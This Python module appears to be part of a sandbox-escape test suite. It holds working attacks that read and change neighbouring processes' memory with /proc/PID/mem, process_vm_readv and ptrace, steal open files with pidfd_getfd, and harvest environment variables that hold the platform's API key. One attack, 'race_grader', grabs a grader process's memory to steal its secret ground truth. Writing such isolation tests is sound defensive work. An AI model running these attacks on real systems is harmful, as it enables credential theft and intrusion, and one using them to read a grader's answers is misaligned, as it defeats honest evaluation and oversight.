"""The memory of another process: its secrets are read, or its data changed."""

import ctypes
import os
import signal
import time

from tests.escapes.attacks.attack import Loot, Targets, attack, call, claim, libc, pids, read

READV, WRITEV, GETFD, PIDFD_OPEN, KCMP, MADVISE = 310, 311, 438, 434, 312, 440
PTRACE_PEEK, PTRACE_POKE, PTRACE_ATTACH, PTRACE_SEIZE = 2, 5, 16, 0x4206
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


@attack()
def proc_mem(targets: Targets) -> Loot:
    """Reads a neighbour's memory through /proc/PID/mem."""
    descriptor = os.open(f"/proc/{targets.victim}/mem", os.O_RDONLY)
    return os.pread(descriptor, targets.length, targets.address)


@attack()
def proc_mem_write(targets: Targets) -> Loot:
    """Writes a neighbour's memory through /proc/PID/mem."""
    descriptor = os.open(f"/proc/{targets.victim}/mem", os.O_RDWR)
    os.pwrite(descriptor, b"changed", targets.address)
    return None


def _vectors(targets: Targets, data: ctypes.Array[ctypes.c_char]) -> tuple[Vector, Vector]:
    here = Vector(ctypes.cast(data, ctypes.c_void_p), len(data))
    return here, Vector(targets.address, len(data))


@attack()
def vm_readv(targets: Targets) -> Loot:
    """Reads a neighbour's memory with process_vm_readv."""
    data = ctypes.create_string_buffer(targets.length)
    here, there = _vectors(targets, data)
    call(READV, targets.victim, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
    return data.raw


@attack()
def vm_writev(targets: Targets) -> Loot:
    """Writes a neighbour's memory with process_vm_writev."""
    data = ctypes.create_string_buffer(b"changed", 7)
    here, there = _vectors(targets, data)
    call(WRITEV, targets.victim, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
    return None


@attack()
def ptrace_peek(targets: Targets) -> Loot:
    """Attaches to a neighbour as a debugger and reads its memory word by word."""
    if libc.ptrace(PTRACE_ATTACH, targets.victim, None, None):
        return None
    os.waitpid(targets.victim, 0x40000000)  # __WALL: it is not a child
    words = (
        libc.ptrace(PTRACE_PEEK, targets.victim, targets.address + at, None)
        for at in range(0, targets.length, 8)
    )
    return b"".join((word & (2**64 - 1)).to_bytes(8, "little") for word in words)


@attack()
def ptrace_poke(targets: Targets) -> Loot:
    """Attaches to a neighbour as a debugger and changes its memory."""
    if libc.ptrace(PTRACE_ATTACH, targets.victim, None, None) == 0:
        os.waitpid(targets.victim, 0x40000000)
        libc.ptrace(PTRACE_POKE, targets.victim, targets.address, 0x64656B6361)
    return None


@attack()
def ptrace_hold(targets: Targets) -> Loot:
    """Attaches to a neighbour, stops it, and does not let it go on."""
    if libc.ptrace(PTRACE_ATTACH, targets.victim, None, None) == 0:
        time.sleep(0.2)
        os.kill(targets.victim, signal.SIGSTOP)
    return None


@attack()
def environment_of_victim(targets: Targets) -> Loot:
    """Reads the environment and the command line of a neighbour."""
    return b"".join(read(f"/proc/{targets.victim}/{name}") for name in ("environ", "cmdline"))


@attack()
def environment_of_parent(targets: Targets) -> Loot:
    """Reads the environment of the platform's process, which holds its API key and database
    address."""
    near = {targets.parent, os.getppid()}
    return b"".join(read(f"/proc/{pid}/environ") for pid in near)


@attack(is_safe=False)
def environments_of_all(targets: Targets) -> Loot:
    """Reads the environment of every process that can be seen."""
    return targets.marks(b"".join(read(f"/proc/{pid}/environ", 1 << 20) for pid in pids()))


@attack(is_safe=False)
def memory_of_all(targets: Targets) -> Loot:
    """Searches the memory of every process that can be seen, up to 32 MiB each."""
    found = ""
    for pid in pids():
        if pid != os.getppid():
            found += targets.marks(_scan(pid))
    return found


@attack()
def memory_of_parent(targets: Targets) -> Loot:
    """Searches the memory of the platform's process, up to 32 MiB."""
    return targets.marks(_scan(targets.parent))


def _scan(pid: int) -> bytes:
    flags = os.O_RDONLY | os.O_CLOEXEC
    try:
        return _contents(os.open(f"/proc/{pid}/mem", flags), os.open(f"/proc/{pid}/maps", flags))
    except OSError:
        return b""


@attack()
def steal_descriptor(targets: Targets) -> Loot:
    """Takes an open file of a neighbour with pidfd_getfd."""
    pidfd = call(PIDFD_OPEN, targets.victim, 0)
    found = b""
    for number in range(3, 12):
        try:
            found += os.pread(call(GETFD, pidfd, number, 0), 4096, 0)
        except OSError:
            continue
    return found


@attack()
def swap_out_victim(targets: Targets) -> Loot:
    """Looks at a neighbour with kcmp, and has its memory swapped out with process_madvise."""
    call(KCMP, os.getpid(), targets.victim, 0, 0, 0)
    there = Vector(targets.address & ~4095, 4096)
    call(MADVISE, call(PIDFD_OPEN, targets.victim, 0), ctypes.byref(there), 1, 21, 0)
    return claim("process_madvise was allowed for a neighbour")


@attack()
def race_grader(targets: Targets) -> Loot:
    """Opens the memory of each process that starts, before it can protect itself. A grader starts
    meanwhile, and its ground truth is a secret."""
    held: dict[int, tuple[int, int]] = {}
    known = set(pids())
    until = time.monotonic() + 1.2
    while time.monotonic() < until:
        for pid in set(pids()) - known:
            if b"user_code_host.py" in read(f"/proc/{pid}/cmdline"):
                known.add(pid)
                try:
                    flags = os.O_RDONLY | os.O_CLOEXEC
                    memory = os.open(f"/proc/{pid}/mem", flags)
                    held[pid] = memory, os.open(f"/proc/{pid}/maps", flags)
                except OSError:
                    continue
    return "".join(targets.marks(_contents(*pair)) for pair in held.values())


def _contents(memory: int, maps: int) -> bytes:
    """The writable memory of a process, up to 32 MiB."""
    lines, data = b"", b""
    while chunk := os.read(maps, 1 << 16):
        lines += chunk
    for line in lines.decode().splitlines():
        first, last = (int(n, 16) for n in line.split()[0].split("-"))
        if "rw" in line and len(data) < 32 << 20:
            try:
                data += os.pread(memory, min(last - first, 4 << 20), first)
            except (OSError, OverflowError):
                continue
    return data
